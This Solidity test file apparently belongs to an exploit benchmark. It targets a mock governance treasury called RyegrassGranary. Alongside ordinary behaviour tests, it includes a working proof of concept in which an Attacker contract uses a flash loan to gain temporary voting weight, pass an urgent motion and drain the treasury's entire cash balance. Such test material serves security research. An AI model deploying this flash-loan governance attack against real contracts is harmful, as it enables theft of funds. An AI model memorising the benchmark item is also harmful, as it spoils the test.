// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./RyegrassGranary.sol";

// assay-canary-606522b7-cae7-44c6-8002-c4b48e36d726

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

/// A token that can be paid in, at times, and never comes back.
contract Sieve is IToken {
    bool internal takes;

    function open() external {
        takes = true;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return takes;
    }
}

contract Token is IToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Lends grain for one transaction.
contract Lender {
    Token internal grain;

    constructor(Token grain_) {
        grain = grain_;
    }

    function lend(uint256 amount) external {
        uint256 before = grain.balanceOf(address(this));
        grain.transfer(msg.sender, amount);
        Attacker(msg.sender).onLoan(amount);
        require(grain.balanceOf(address(this)) >= before, "lender: not back");
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant EAST = address(0xEA57);
    address internal constant WEST = address(0x3E57);
    uint256 internal constant START = 1_650_000_000;

    Token internal grain;
    Token internal cash;
    Lender internal lender;
    RyegrassGranary internal granary;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        grain = new Token();
        cash = new Token();
        lender = new Lender(grain);
        grain.mint(address(lender), 1_000_000e18);
        granary = new RyegrassGranary(grain, cash);
        cash.mint(address(granary), 76_000_000e6);
        _store(EAST, 60_000e18);
        _store(WEST, 39_900e18);
        thief = new Attacker(granary, grain, cash, lender);
        grain.mint(address(thief), 100e18);
        thief.join();
        vm.warp(START + 1 hours);
    }

    function _store(address who, uint256 amount) internal {
        grain.mint(who, amount);
        vm.prank(who);
        grain.approve(address(granary), amount);
        vm.prank(who);
        granary.store(amount);
    }

    function test_Regular() public {
        vm.prank(EAST);
        granary.move(address(0xA), 1_000e6, "roof");
        vm.prank(EAST);
        granary.support(0);
        vm.warp(START + 2 days);
        (bool ok, ) = address(granary).call(abi.encodeCall(RyegrassGranary.carryUrgent, (0)));
        require(!ok, "not two thirds");
        (ok, ) = address(granary).call(abi.encodeCall(RyegrassGranary.carry, (0)));
        require(!ok, "not yet");
        vm.warp(START + 8 days);
        granary.carry(0);
        require(cash.balanceOf(address(0xA)) == 1_000e6, "paid");

        vm.prank(WEST);
        granary.move(address(0xB), 2_000e6, "pump");
        vm.prank(EAST);
        granary.support(1);
        vm.prank(EAST);
        granary.support(1);
        vm.prank(WEST);
        granary.support(1);
        (, , , , uint256 weight, ) = granary.motions(1);
        require(weight == 99_900e18, "weight");
        (ok, ) = address(granary).call(abi.encodeCall(RyegrassGranary.carryUrgent, (1)));
        require(!ok, "at once");
        vm.warp(START + 9 days + 1);
        granary.carryUrgent(1);
        require(cash.balanceOf(address(0xB)) == 2_000e6, "urgent");
        vm.prank(WEST);
        granary.fetch(39_900e18);
        require(grain.balanceOf(WEST) == 39_900e18 && granary.total() == 60_100e18, "fetched");
        (ok, ) = address(granary).call(abi.encodeCall(RyegrassGranary.move, (WEST, 1, "")));
        require(!ok, "not a member");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesMotionsThatAreNotOpen() public {
        vm.prank(EAST);
        _expect(RyegrassGranary.NoMotion.selector);
        granary.support(0);

        vm.prank(EAST);
        granary.move(address(0xA), 1_000e6, "roof");
        vm.prank(EAST);
        granary.support(0);
        vm.prank(WEST);
        granary.support(0);
        vm.warp(START + 8 days);
        granary.carry(0);
        _expect(RyegrassGranary.NoMotion.selector);
        granary.carry(0);
        _expect(RyegrassGranary.NoMotion.selector);
        granary.carryUrgent(0);
        require(cash.balanceOf(address(0xA)) == 1_000e6, "paid once");

        vm.prank(EAST);
        granary.move(address(0xB), 2_000e6, "pump");
        vm.warp(START + 8 days + 14 days);
        vm.prank(WEST);
        _expect(RyegrassGranary.NoMotion.selector);
        granary.support(1);
    }

    function test_RefusesMinorities() public {
        vm.prank(WEST);
        granary.move(WEST, 1_000e6, "pump");
        vm.prank(WEST);
        granary.support(0);
        vm.warp(START + 1 hours + 7 days);
        vm.expectRevert(abi.encodeWithSelector(RyegrassGranary.NotEnough.selector, 39_900e18));
        granary.carry(0);
    }

    function test_RefusesUrgencyWithoutAnySupport() public {
        RyegrassGranary empty = new RyegrassGranary(grain, cash);
        cash.mint(address(empty), 5e6);
        empty.move(address(this), 5e6, "mine");
        vm.warp(START + 1 hours + 1 days);
        vm.expectRevert(abi.encodeWithSelector(RyegrassGranary.NotEnough.selector, 0));
        empty.carryUrgent(0);
    }

    function test_RefusesTokensThatDoNotMove() public {
        Sieve sieve = new Sieve();
        RyegrassGranary other = new RyegrassGranary(sieve, sieve);
        _expect(RyegrassGranary.TokenRefused.selector);
        other.store(10e18);
        sieve.open();
        other.store(10e18);
        _expect(RyegrassGranary.TokenRefused.selector);
        other.fetch(1e18);

        vm.warp(START + 2 hours);
        other.move(EAST, 1, "roof");
        other.support(0);
        vm.warp(START + 2 hours + 7 days);
        _expect(RyegrassGranary.TokenRefused.selector);
        other.carry(0);
    }

    function _expect(bytes4 reason) internal {
        vm.expectRevert(abi.encodeWithSelector(reason));
    }

    function exploit() public {
        thief.propose();
        vm.warp(block.timestamp + 1 days);
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = cash.balanceOf(address(thief));
        exploit();
        require(cash.balanceOf(address(thief)) >= before + 76_000_000e6, "nothing gained");
        require(grain.balanceOf(address(lender)) == 1_000_000e18, "lender");
    }

    function target() public view returns (address) {
        return address(granary);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(cash);
    }
}

/// Borrows a majority.
contract Attacker {
    RyegrassGranary internal granary;
    Token internal grain;
    Token internal cash;
    Lender internal lender;

    constructor(RyegrassGranary granary_, Token grain_, Token cash_, Lender lender_) {
        granary = granary_;
        grain = grain_;
        cash = cash_;
        lender = lender_;
        grain_.approve(address(granary_), type(uint256).max);
    }

    function join() external {
        granary.store(100e18);
    }

    function propose() external {
        granary.move(address(this), cash.balanceOf(address(granary)), "");
    }

    function run() external {
        lender.lend(300_000e18);
    }

    function onLoan(uint256 amount) external {
        granary.store(amount);
        granary.support(0);
        granary.carryUrgent(0);
        granary.fetch(amount);
        grain.transfer(msg.sender, amount);
    }
}
